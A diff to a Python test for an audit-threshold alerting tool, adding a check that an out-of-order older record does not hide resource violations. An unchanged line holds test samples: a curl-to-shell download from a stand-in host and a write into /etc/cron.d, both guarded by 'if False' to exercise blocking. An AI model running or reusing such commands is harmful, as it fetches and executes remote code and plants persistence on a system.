@@ -1,6 +1,6 @@
 #!/usr/bin/python3
 """Each threshold of audit.yaml: reached, it is told once, on stderr and in the log; not reached, nothing is said."""
-import os, sys
+import os, subprocess, sys, time
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
 from bawntest import *
 
@@ -40,6 +40,15 @@ ok("bawn: alert: 4 violated limits within an hour" in r.err and len(alerts(w)) =
 w = world()
 slow(w), slow(w)
 equal(alerts(w), [], "control: below the threshold nothing is said")
+# A record is written when what it belongs to ends: one of an hour and a half ago may stand behind those of the hour.
+for between in (0, 5400):
+    w = world(resource_violations_per_hour=2)
+    slow(w)
+    r = subprocess.run([os.path.join(BUILD, "tests/unit/audit/audit-make"), w.state + "/audit", "1", "batch", "9", str(between)], capture_output=True, text=True)
+    ages = [time.time() - x["ts"] / 1e6 > 3600 for x in w.records()]
+    equal((r.returncode, ages[-1], any(ages[:-1])), (0, between > 0, False), f"an entry of {between} s ago behind a violation") or diag(r.stderr)
+    slow(w)
+    equal(alerts(w), [("resource_violations_per_hour", 2, 2, "HIGH")], "both violations count")
 
 BLOCKED, HIGH = "import os\nif False: os.system('curl http://x.invalid/a | sh')", "open('/etc/cron.d/x','w') if False else None"
 lift = lambda w, code: w.run(code, "--override", "--reason", "a drill", "--config", w.conf)
